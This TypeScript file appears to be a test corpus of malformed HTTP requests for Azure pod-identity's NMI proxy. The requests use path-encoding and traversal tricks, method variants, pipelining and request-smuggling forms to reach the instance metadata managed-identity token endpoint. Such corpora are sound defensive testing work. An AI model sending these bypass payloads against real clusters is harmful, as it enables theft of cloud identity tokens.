// Requests that no SDK sends: each tries to mean one thing to NMI and another to the metadata service.

const close = 'Host: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n';
const keep = 'Host: 169.254.169.254\r\nMetadata: true\r\n\r\n';
const query = 'api-version=2018-02-01&resource=https://vault.azure.net';
const token = `/metadata/identity/oauth2/token?${query}`;
const inner = `GET ${token} HTTP/1.1\r\n${close}`;

const withTarget = (target: string) => ({ name: target, text: `GET ${target} HTTP/1.1\r\n${close}` });

export interface OddRequest {
  readonly name: string;
  /** Bytes as Latin-1. The server ends the connection after it. */
  readonly text: string;
}

export const oddRequests: readonly OddRequest[] = [
  ...[
    `/Metadata/IDENTITY/oauth2/token?${query}`,
    `//metadata//identity/oauth2//token?${query}`,
    `/metadata\\identity\\oauth2\\token?${query}`,
    `/metadata/identity\\oauth2/token?${query}`,
    `/metadata/%69dentity/oauth2/token?${query}`,
    `/metadata%2fidentity%2foauth2%2ftoken?${query}`,
    `/metadata/%2569dentity/oauth2/token?${query}`,
    `/metadata/instance/../identity/oauth2/token?${query}`,
    `/metadata/instance/%2e%2e/identity/oauth2/token?${query}`,
    `/metadata/instance/..;/identity/oauth2/token?${query}`,
    `/metadata/./identity/oauth2/token?${query}`,
    `/metadata/versions/..\\identity/oauth2/token?${query}`,
    `/metadata/identity;x/oauth2/token?${query}`,
    `/metadata/identity%00/oauth2/token?${query}`,
    `/metadata/identity/oauth2/token%3f${query}`,
    `/metadata/instance#/../identity/oauth2/token?${query}`,
    `/metadata/instance?/../identity/oauth2/token?${query}`,
    '/metadata/identity/info?api-version=2018-02-01',
    '/metadata/identity?api-version=2018-02-01',
    `http://169.254.169.254${token}`,
    `http://169.254.169.254:80/metadata/instance/../identity/oauth2/token?${query}`,
    `HTTP://user@169.254.169.254${token}`,
    `https://169.254.169.254${token}`,
    `169.254.169.254${token}`,
    `metadata/identity/oauth2/token?${query}`,
    '*',
  ].map(withTarget),
  ...['HEAD', 'POST', 'PUT', 'OPTIONS', 'TRACE', 'get', 'PROPFIND'].map((method) => ({
    name: `method ${method}`,
    text: `${method} /metadata/identity/info HTTP/1.1\r\n${close}`,
  })),
  { name: 'CONNECT', text: `CONNECT 169.254.169.254:80 HTTP/1.1\r\n${close}${inner}` },
  { name: 'HTTP/0.9', text: `GET ${token}\r\n\r\n` },
  { name: 'HTTP/1.0 without Host', text: `GET /metadata/identity/info HTTP/1.0\r\nMetadata: true\r\n\r\n` },
  { name: 'HTTP/2 preface', text: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' },
  {
    name: 'pipelined after what is passed on',
    text: `GET /metadata/versions HTTP/1.1\r\n${keep}GET /metadata/instance?api-version=2021-02-01 HTTP/1.1\r\n${keep}GET /metadata/identity/info HTTP/1.1\r\n${close}`,
  },
  {
    name: 'pipelined with line feeds alone',
    text: `GET /metadata/versions HTTP/1.1\nHost: x\n\nGET /metadata/identity/info HTTP/1.1\nHost: x\nConnection: close\n\n`,
  },
  {
    name: 'a body that is a request',
    text: `GET /metadata/versions HTTP/1.1\r\nContent-Length: ${inner.length}\r\n${close}${inner}`,
  },
  {
    name: 'two lengths',
    text: `POST /metadata/instance HTTP/1.1\r\nContent-Length: ${inner.length}\r\nTransfer-Encoding: chunked\r\n${close}0\r\n\r\n${inner}`,
  },
  {
    name: 'a space before the colon',
    text: `POST /metadata/versions HTTP/1.1\r\nTransfer-Encoding : chunked\r\n${close}0\r\n\r\n${inner}`,
  },
  {
    name: 'a header that goes on in the next line',
    text: `GET /metadata/versions HTTP/1.1\r\nX: 1\r\n GET ${token} HTTP/1.1\r\n${close}`,
  },
  {
    name: 'an upgrade to HTTP/2',
    text: `GET /metadata/versions HTTP/1.1\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n${close.replace('close', 'Upgrade, HTTP2-Settings, close')}`,
  },
  {
    name: 'a forwarded host and address',
    text: `GET ${token} HTTP/1.1\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: ${token}\r\nForwarded: for=127.0.0.1\r\n${close}`,
  },
];
